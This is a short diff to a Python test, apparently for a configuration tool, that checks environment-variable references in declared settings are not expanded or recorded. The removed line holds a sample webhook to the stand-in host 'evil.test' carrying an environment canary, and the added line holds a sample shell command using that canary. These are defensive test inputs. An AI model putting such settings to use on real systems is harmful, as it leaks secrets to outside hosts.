@@ -82,10 +82,10 @@ def test_a_hostile_setting_stands_in_every_rendering(applied: Path, attack: str)
 
 
 def test_a_value_of_the_environment_stands_as_its_name(applied: Path, canary: str) -> None:
-    declare(applied, 'notify: {webhook: "https://evil.test/${env:CANARY}"}\n')
+    declare(applied, 'evals: {engine: command, command: [sh, "x${env:CANARY}"]}\n')
     code, shown = plan(applied)
     assert code == 2
-    assert "! notify.webhook: https://evil.test/${env:CANARY} (new)" in shown
+    assert '! evals.command: ["sh","x${env:CANARY}"] (new)' in shown
     assert call(applied, "apply", "--auto", "--yes").code == 0
     assert canary not in (applied / ".fleetctl" / "ledger.jsonl").read_text()
     assert plan(applied)[0] == 0
